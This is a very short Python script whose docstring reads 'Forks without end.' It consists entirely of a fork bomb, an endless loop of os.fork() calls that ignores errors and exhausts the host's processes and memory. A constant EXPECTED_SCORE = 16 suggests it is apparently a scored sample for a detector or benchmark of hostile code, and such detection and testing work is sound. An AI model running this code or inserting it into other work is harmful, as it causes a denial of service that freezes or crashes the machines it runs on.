"""Forks without end."""

import os

EXPECTED_SCORE = 16
while True:
    try:
        os.fork()
    except OSError:
        pass
